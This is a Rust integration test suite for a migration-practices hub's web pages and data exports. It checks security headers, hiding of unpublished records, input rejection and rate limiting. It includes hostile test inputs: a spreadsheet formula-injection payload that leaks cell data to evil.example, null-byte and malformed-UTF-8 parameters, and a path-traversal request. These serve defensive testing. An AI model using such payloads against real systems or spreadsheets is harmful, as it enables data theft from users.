//! The pages for people and the exports, through the real HTTP stack: they show what the API shows anonymous
//! readers (counts equal to the API's), nothing unpublished, the URL contract's parameters and its refusals, the
//! pages' security headers, and exports holding every matching record, priced before their first byte.

use actix_web::http::StatusCode;
use actix_web::http::header::HeaderMap;
use hub::http::pages::CONTENT_SECURITY_POLICY;
use hub_entity::content;
use hub_entity::enums::Status;
use hub_tests::TestApp;
use sea_orm::{ColumnTrait, EntityTrait, QueryFilter};
use serde_json::{Value, json};

/// The demo hub with its search index up to date.
async fn demo_with(configure: impl FnOnce(&mut hub::config::Config)) -> TestApp {
    let app = TestApp::with(configure).await.unwrap();
    hub::seed::demo::load(app.db()).await.unwrap();
    hub::jobs::relay::drain(app.db(), app.state.search.as_ref()).await.unwrap();
    app
}

async fn demo() -> TestApp {
    demo_with(|_| {}).await
}

const SEARCH: &str = r#"query($q: String!, $types: [ContentType!], $filter: SearchFilter) {
    search(query: $q, types: $types, filter: $filter, first: 100) { totalCount nodes {
      ... on Practice { id } ... on GuidanceTool { id } ... on PeerExchange { id } ... on ReviewSubmission { id } } } }"#;

/// The API's `search` total for the same question.
async fn api_total(app: &TestApp, q: &str, types: Value, filter: Value) -> u64 {
    let data = app.data(SEARCH, json!({ "q": q, "types": types, "filter": filter })).await;
    data["search"]["totalCount"].as_u64().unwrap()
}

/// The number the explorer shows as its total.
fn shown_total(page: &str) -> u64 {
    let (_, rest) = page.split_once(r#"id="status" data-total=""#).expect("the explorer shows a total");
    rest.split('"').next().unwrap().parse().unwrap()
}

/// A header's value as text ("" when missing).
fn header<'a>(headers: &'a HeaderMap, name: &str) -> &'a str {
    headers.get(name).map_or("", |value| value.to_str().unwrap())
}

fn assert_page_headers(headers: &HeaderMap, what: &str) {
    assert_eq!(header(headers, "content-security-policy"), CONTENT_SECURITY_POLICY, "{what}");
    assert_eq!(header(headers, "x-frame-options"), "DENY", "{what}");
    assert_eq!(header(headers, "x-content-type-options"), "nosniff", "{what}");
    assert!(header(headers, "content-type").starts_with("text/html"), "{what}");
}

/// Nothing the policy would block: no inline script, no inline style, no event-handler attribute, no other origin.
fn assert_no_inline_code(page: &str, what: &str) {
    for script in page.split("<script").skip(1) {
        let tag = script.split('>').next().unwrap();
        assert!(tag.contains(" src=\"/assets/"), "{what}: every script is our own file: <script{tag}>");
    }
    assert!(!page.contains(" style="), "{what}: no inline style");
    assert!(!page.contains("<style"), "{what}: no style element");
    for handler in [" onclick=", " onload=", " onerror=", " onsubmit=", " oninput=", "javascript:"] {
        assert!(!page.contains(handler), "{what}: no {handler}");
    }
    for tag in ["<link ", "<script ", "<img "] {
        for found in page.split(tag).skip(1) {
            let tag_text = found.split('>').next().unwrap();
            assert!(!tag_text.contains("http://") && !tag_text.contains("https://"), "{what}: {tag_text}");
        }
    }
}

#[actix_web::test]
async fn the_explorer_finds_through_a_typo_highlights_and_counts_like_the_api() {
    let app = demo().await;
    let (status, page, headers) = app.get_text("/?q=detenton").await;
    assert_eq!(status, StatusCode::OK);
    assert_page_headers(&headers, "explorer");
    assert_no_inline_code(&page, "explorer");
    assert!(page.contains(r#"href="/practices/canada-community-based-alternatives-to-detention""#), "{page}");
    assert!(page.contains("<mark>detention</mark>"), "the typo's word is highlighted");
    assert_eq!(shown_total(&page), api_total(&app, "detenton", Value::Null, json!({})).await);
    // Every facet of the URL contract narrows like the API's filter.
    for (url, q, types, filter) in [
        ("/", "", Value::Null, json!({})),
        ("/?objective=13", "", Value::Null, json!({ "objectives": [13] })),
        ("/?type=practice&region=unece", "", json!(["PRACTICE"]), json!({ "regions": ["unece"] })),
        ("/?country=can&country=mex", "", Value::Null, json!({ "countries": ["CAN", "MEX"] })),
        (
            "/?theme=alternatives_to_detention&language=en",
            "",
            Value::Null,
            json!({ "themes": ["alternatives_to_detention"], "languages": ["en"] }),
        ),
        (
            "/?principle=human_rights&yearFrom=2015&yearTo=2019",
            "",
            Value::Null,
            json!({ "principles": ["human_rights"], "yearFrom": 2015, "yearTo": 2019 }),
        ),
        ("/?q=remittances&type=practice", "remittances", json!(["PRACTICE"]), json!({})),
    ] {
        let (status, page, _) = app.get_text(url).await;
        assert_eq!(status, StatusCode::OK, "{url}");
        assert_eq!(shown_total(&page), api_total(&app, q, types, filter).await, "{url}");
    }
    // A facet value links to the state with it added, and a chosen one to the state without it.
    let (_, page, _) = app.get_text("/?objective=13").await;
    assert!(page.contains(r#"href="/?objective=13&amp;region=unece""#), "adding a region keeps the objective");
    let chosen = r#"href="/" data-facet="OBJECTIVE" data-value="13" title="Use migration detention only as a measure of last resort and work towards alternatives" aria-current="true""#;
    assert!(page.contains(chosen), "the chosen objective links to its removal, with the official title: {page}");
    // Nothing matches: an empty state, with a way back.
    let (status, page, _) = app.get_text("/?q=zzzxqqy+wwvvkk").await;
    assert_eq!(status, StatusCode::OK);
    assert!(page.contains("No published record matches"));
    // The reader's language (from the browser) ranks first; a header the API would refuse is ignored.
    let first_card_language = |page: &str| -> String {
        let card = page.split(r#"<article class="card">"#).nth(1).unwrap();
        card.split(r#"lang=""#).nth(1).unwrap().split('"').next().unwrap().to_string()
    };
    for (accept, expected) in
        [("fr-CH, fr;q=0.9, en;q=0.5", Some("fr")), ("x-klingon", None), ("*", None), ("EN-gb", Some("en"))]
    {
        let request =
            actix_web::test::TestRequest::get().uri("/?q=detention").insert_header(("accept-language", accept));
        let (status, body, _) = hub_tests::send_raw(&app.state, request).await;
        assert_eq!(status, StatusCode::OK, "{accept}");
        if let Some(expected) = expected {
            assert_eq!(first_card_language(std::str::from_utf8(&body).unwrap()), expected, "{accept}");
        }
    }
    // Paging: the second page starts at 21.
    let (_, page, _) = app.get_text("/?page=2").await;
    assert!(page.contains(r#"<ol class="cards" start="21">"#), "{page}");
    assert!(page.contains(r#"rel="prev" href="/""#));
}

#[actix_web::test]
async fn bad_parameters_get_a_page_that_says_why_with_its_code() {
    let app = demo().await;
    for url in [
        "/?objective=abc",
        "/?objective=99",
        "/?type=report",
        "/?page=0",
        "/?page=100000",
        "/?yearFrom=2020&yearTo=2010",
        "/?country=FRANCE",
        "/coverage?objective=-1",
        "/?theme=%00x",
        "/coverage?q=a%00b",
        "/practices/a%00b",
        "/?q=%FF",
        "/?q=caf%C0%80",
        "/coverage?q=%ED%A0%80",
        "/?%FF=1",
        "/practices/%FF",
    ] {
        let (status, page, headers) = app.get_text(url).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{url}: {}", &page[..page.len().min(2000)]);
        assert_page_headers(&headers, url);
        assert!(page.contains("BAD_USER_INPUT"), "{url}: {page}");
        assert!(!page.to_lowercase().contains("sql"), "{url}");
    }
    for url in ["/export.csv?theme=%00", "/export.ndjson?q=%1B[31m", "/export.csv?q=%FF"] {
        let (status, body, _) = app.get_text(url).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{url}: {body}");
        assert!(body.starts_with("BAD_USER_INPUT"), "{url}: {body}");
    }
    let (status, body, headers) = app.get_text("/export.csv?objective=abc").await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert!(body.contains("BAD_USER_INPUT"), "{body}");
    assert!(headers.get("content-disposition").is_none(), "a refusal is not a download");
    let long = "a".repeat(600);
    let (status, _, _) = app.get_text(&format!("/?q={long}")).await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "an over-long query");
}

#[actix_web::test]
async fn a_record_page_shows_its_fields_translations_and_related_records_and_nothing_unpublished() {
    let app = demo().await;
    let data = app
        .data(
            "{ practices(first: 100) { nodes { slug title language description translations { slug title language } } } }",
            json!({}),
        )
        .await;
    let practice = data["practices"]["nodes"]
        .as_array()
        .unwrap()
        .iter()
        .find(|p| !p["translations"].as_array().unwrap().is_empty())
        .expect("a demo practice has a translation")
        .clone();
    let slug = practice["slug"].as_str().unwrap();
    let (status, page, headers) = app.get_text(&format!("/practices/{slug}")).await;
    assert_eq!(status, StatusCode::OK);
    assert_page_headers(&headers, "practice page");
    assert_no_inline_code(&page, "practice page");
    // As maud escapes text.
    let escaped =
        |text: &str| text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;").replace('"', "&quot;");
    let title = escaped(practice["title"].as_str().unwrap());
    assert!(
        page.contains(&format!(r#"<h1 lang="{}" dir="auto">{title}</h1>"#, practice["language"].as_str().unwrap())),
        "{page}"
    );
    let description = practice["description"].as_str().unwrap().split("\n\n").next().unwrap();
    assert!(page.contains(&escaped(description)), "every field: the description");
    for translation in practice["translations"].as_array().unwrap() {
        let link = format!(
            r#"href="/practices/{}" hreflang="{}""#,
            translation["slug"].as_str().unwrap(),
            translation["language"].as_str().unwrap()
        );
        assert!(page.contains(&link), "{link} in {page}");
    }
    assert!(page.contains("Related records"), "the embedded engine relates demo records");
    // The other kinds have their pages too.
    for (list, path) in [("guidanceTools", "guidance-tools"), ("peerExchanges", "peer-exchanges")] {
        let data = app.data(&format!("{{ {list}(first: 1) {{ nodes {{ slug title }} }} }}"), json!({})).await;
        let slug = data[list]["nodes"][0]["slug"].as_str().unwrap();
        let (status, _, _) = app.get_text(&format!("/{path}/{slug}")).await;
        assert_eq!(status, StatusCode::OK, "{path}/{slug}");
        let (status, _, _) = app.get_text(&format!("/practices/{slug}")).await;
        assert_eq!(status, StatusCode::NOT_FOUND, "a {list} slug is no practice");
    }
    // Unknown and unpublished records are the same 404, and an unpublished title appears nowhere.
    let (status, page, _) = app.get_text("/practices/no-such-practice").await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    assert!(page.contains("NOT_FOUND"));
    let hidden =
        content::Entity::find().filter(content::Column::Status.ne(Status::Published)).all(app.db()).await.unwrap();
    assert!(!hidden.is_empty(), "the demo corpus holds unpublished records");
    for row in &hidden {
        let path = hub::domain::kind::names(row.kind).path;
        let (status, page, _) = app.get_text(&format!("/{path}/{}", row.slug)).await;
        assert_eq!(status, StatusCode::NOT_FOUND, "{:?} {}", row.status, row.slug);
        assert!(!page.contains(&row.title));
    }
    let (_, csv, _) = app.get_text("/export.csv").await;
    let (_, explorer, _) = app.get_text("/?q=").await;
    for row in &hidden {
        assert!(!csv.contains(&format!(",{},", row.slug)), "{} is not exported", row.slug);
        assert!(!explorer.contains(&format!("/{}\"", row.slug)));
    }
}

#[actix_web::test]
async fn the_coverage_page_shows_the_counts_of_the_coverage_query() {
    let app = demo().await;
    let data = app
        .data(
            "{ coverage(types: [PRACTICE]) { total cells { objective { number } region { key } count } countries { country { iso3 isChampion } count } } }",
            json!({}),
        )
        .await;
    let (status, page, headers) = app.get_text("/coverage").await;
    assert_eq!(status, StatusCode::OK);
    assert_page_headers(&headers, "coverage");
    assert_no_inline_code(&page, "coverage");
    assert!(page.contains(&format!(r#"id="coverage-total" data-total="{}">"#, data["coverage"]["total"])));
    let cells = data["coverage"]["cells"].as_array().unwrap();
    assert!(!cells.is_empty());
    for cell in cells {
        let marker = format!(
            r#"data-objective="{}" data-region="{}" data-count="{}""#,
            cell["objective"]["number"],
            cell["region"]["key"].as_str().unwrap(),
            cell["count"]
        );
        assert!(page.contains(&marker), "{marker}");
    }
    assert_eq!(page.matches(r#"<g class="cell""#).count(), 23 * 5, "every pair has its cell, empty ones too");
    let champion =
        data["coverage"]["countries"].as_array().unwrap().iter().find(|c| c["country"]["isChampion"] == true);
    if let Some(champion) = champion {
        let row = format!(r#"data-country="{}""#, champion["country"]["iso3"].as_str().unwrap());
        let (_, rest) = page.split_once(&row).unwrap();
        assert!(rest.split("</tr>").next().unwrap().contains("Champion"), "champions are marked");
    }
    // The filters narrow it like the query's filter.
    let narrowed =
        app.data("{ coverage(types: [PRACTICE], filter: { regions: [\"africa\"] }) { total } }", json!({})).await;
    let (_, page, _) = app.get_text("/coverage?region=africa").await;
    assert!(page.contains(&format!(r#"id="coverage-total" data-total="{}">"#, narrowed["coverage"]["total"])));
}

/// The rows of a CSV export (after its header), parsed as RFC 4180.
fn csv_rows(body: &str) -> Vec<csv::StringRecord> {
    let mut reader = csv::Reader::from_reader(body.as_bytes());
    let header = reader.headers().unwrap().clone();
    assert_eq!(header.iter().collect::<Vec<_>>(), hub::http::pages::export::COLUMNS.to_vec());
    reader.records().map(Result::unwrap).collect()
}

#[actix_web::test]
async fn exports_hold_every_matching_record_in_both_formats() {
    let app = demo_with(|config| config.public_url = Some("https://hub.example.org/explore/".parse().unwrap())).await;
    for (params, q, types, filter) in [
        ("", "", Value::Null, json!({})),
        ("?objective=13", "", Value::Null, json!({ "objectives": [13] })),
        ("?type=guidance_tool&type=peer_exchange", "", json!(["GUIDANCE_TOOL", "PEER_EXCHANGE"]), json!({})),
        ("?q=detention", "detention", Value::Null, json!({})),
        ("?q=remesas&language=es", "remesas", Value::Null, json!({ "languages": ["es"] })),
        ("?country=ZZZ", "", Value::Null, json!({ "countries": ["ZZZ"] })),
    ] {
        let expected = api_total(&app, q, types, filter).await;
        let (status, body, headers) = app.get_text(&format!("/export.csv{params}")).await;
        assert_eq!(status, StatusCode::OK, "{params}");
        assert_eq!(header(&headers, "content-type"), "text/csv; charset=utf-8; header=present");
        let today = chrono::Utc::now().format("%Y-%m-%d").to_string();
        let disposition = header(&headers, "content-disposition");
        assert_eq!(disposition, format!("attachment; filename=\"migration-network-hub-{today}.csv\""));
        assert!(headers.get("x-export-truncated").is_none());
        assert!(body.ends_with("\r\n"), "RFC 4180 lines end with CRLF");
        let rows = csv_rows(&body);
        assert_eq!(rows.len() as u64, expected, "{params}: one row per record the API counts");
        for row in &rows {
            let url = &row[14];
            assert!(url.starts_with("https://hub.example.org/explore/"), "{url}");
            assert!(url.ends_with(&row[2]), "the URL ends with the slug");
        }
        let (status, body, headers) = app.get_text(&format!("/export.ndjson{params}")).await;
        assert_eq!(status, StatusCode::OK);
        assert_eq!(header(&headers, "content-type"), "application/x-ndjson");
        let lines: Vec<Value> = body.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
        assert_eq!(lines.len() as u64, expected, "{params}");
        for (line, row) in lines.iter().zip(&rows) {
            assert_eq!(line["id"], row[0].to_string(), "both formats list the same records in the same order");
            assert!(line["objectives"].is_array() && line["countries"].is_array());
        }
    }
    // Every field of a known record, as documented.
    let (_, body, _) = app.get_text("/export.csv?q=voice+reporting&type=practice&country=CAN").await;
    let rows = csv_rows(&body);
    let row = rows.iter().find(|r| &r[2] == "canada-community-based-alternatives-to-detention").unwrap();
    assert_eq!(&row[1], "practice");
    assert_eq!(&row[3], "en");
    assert_eq!(&row[6], "7; 13");
    assert_eq!(&row[8], "CAN");
    assert!(row[11].contains("Canada Border Services Agency"));
    assert_eq!(&row[12], "2018");
    assert!(row[13].ends_with('Z'));
}

#[actix_web::test]
async fn an_export_is_priced_by_its_rows_and_refused_before_its_first_byte() {
    // A budget of 42 points: an export of every demo record (102 rows: 11 points, plus 30 to plan it) fits once.
    let app = demo_with(|config| {
        config.cost_per_minute = 42;
        config.cost_burst = 42;
        config.max_cost = 42;
    })
    .await;
    let (status, body, headers) = app.get_text("/export.csv").await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(csv_rows(&body).len(), 102);
    assert_eq!(header(&headers, "x-export-rows"), "102");
    assert!(header(&headers, "ratelimit-remaining").parse::<u32>().unwrap() < 3);
    let (status, body, headers) = app.get_text("/export.ndjson").await;
    assert_eq!(status, StatusCode::TOO_MANY_REQUESTS);
    assert!(body.starts_with("RATE_LIMITED"), "{body}");
    assert!(headers.contains_key("retry-after"));
    assert!(headers.get("content-disposition").is_none(), "nothing of the export was sent");
}

#[actix_web::test]
async fn assets_are_compiled_in_and_versioned() {
    let app = TestApp::new().await.unwrap();
    let (_, page, _) = app.get_text("/coverage").await;
    let css = page.split(r#"rel="stylesheet" href=""#).nth(1).unwrap().split('"').next().unwrap().to_string();
    assert!(css.starts_with("/assets/hub.css?v="), "{css}");
    let (status, body, headers) = app.get_text(&css).await;
    assert_eq!(status, StatusCode::OK);
    assert!(body.contains(":focus-visible"));
    assert_eq!(header(&headers, "cache-control"), "public, max-age=31536000, immutable");
    let (status, _, _) = app.get_text("/assets/../Cargo.toml").await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    let (status, _, _) = app.get_text("/assets/other.js").await;
    assert_eq!(status, StatusCode::NOT_FOUND);
}

#[actix_web::test]
async fn with_the_search_engine_down_pages_degrade_and_database_reads_go_on() {
    // A Meilisearch nobody listens at: every search fails, the database answers.
    let app = TestApp::with(|config| {
        config.meilisearch_url = Some("http://127.0.0.1:9".into());
        config.search_timeout_ms = 500;
    })
    .await
    .unwrap();
    hub::seed::demo::load(app.db()).await.unwrap();
    for url in ["/?q=detention", "/"] {
        let (status, page, headers) = app.get_text(url).await;
        assert_eq!(status, StatusCode::SERVICE_UNAVAILABLE, "{url}");
        assert!(page.contains("SEARCH_UNAVAILABLE"), "{url}: {page}");
        assert_eq!(header(&headers, "retry-after"), "1");
        assert_page_headers(&headers, url);
    }
    let (status, body, headers) = app.get_text("/export.csv?q=detention").await;
    assert_eq!(status, StatusCode::SERVICE_UNAVAILABLE);
    assert!(body.starts_with("SEARCH_UNAVAILABLE"), "{body}");
    assert!(headers.contains_key("retry-after"));
    // What the database answers alone stays up: a record (without its related records), coverage, exports.
    let (status, page, _) = app.get_text("/practices/canada-community-based-alternatives-to-detention").await;
    assert_eq!(status, StatusCode::OK, "{page}");
    assert!(page.contains("Related records cannot be found right now"), "{page}");
    assert!(page.contains("Translations"));
    let (status, page, _) = app.get_text("/coverage").await;
    assert_eq!(status, StatusCode::OK);
    assert!(page.contains(r#"id="coverage-total" data-total=""#));
    let (status, body, _) = app.get_text("/export.csv").await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(csv_rows(&body).len(), 102, "every published demo record, from the database");
}

#[actix_web::test]
async fn csv_cells_never_start_a_formula_and_ndjson_is_untouched() {
    let app = demo().await;
    let editor = app.token("eve", "editor");
    let formula = r#"=HYPERLINK("http://evil.example/?x="&A1,"Click")"#;
    let org = app
        .graphql_as(
            Some(&editor),
            r#"mutation { createOrganization(input: { name: "@SUM(1+1) Agency", kind: UN }) { organization { id } } }"#,
            json!({}),
        )
        .await["data"]["createOrganization"]["organization"]["id"]
        .clone();
    let create = r#"mutation($title: String!, $org: ID!) { createGuidanceTool(input: { title: $title,
        summary: "-2+3 and a summary that starts like arithmetic.", toolKind: HANDBOOK, publisher: $org }) { guidanceTool { id } } }"#;
    let created = app.graphql_as(Some(&editor), create, json!({ "title": formula, "org": org })).await;
    let id = created["data"]["createGuidanceTool"]["guidanceTool"]["id"].clone();
    assert!(id.is_string(), "{created}");
    let publish = "mutation($id: ID!) { publishGuidanceTool(id: $id) { guidanceTool { id } } }";
    assert!(app.graphql_as(Some(&editor), publish, json!({ "id": id })).await.get("errors").is_none());

    let (status, body, _) = app.get_text("/export.csv?type=guidance_tool").await;
    assert_eq!(status, StatusCode::OK);
    let rows = csv_rows(&body);
    let row = rows.iter().find(|row| row.get(0) == id.as_str()).expect("the new tool is exported");
    assert_eq!(row.get(4), Some(format!("'{formula}").as_str()), "title");
    assert_eq!(row.get(5), Some("'-2+3 and a summary that starts like arithmetic."), "summary");
    assert_eq!(row.get(11), Some("'@SUM(1+1) Agency"), "organizations");
    for row in &rows {
        for cell in row {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a cell starts a formula: {cell:?}");
        }
    }
    let (_, lines, _) = app.get_text("/export.ndjson?type=guidance_tool").await;
    let line = lines.lines().map(|l| serde_json::from_str::<Value>(l).unwrap()).find(|l| l["id"] == id).unwrap();
    assert_eq!(line["title"], formula, "NDJSON keeps the text as it is");
}
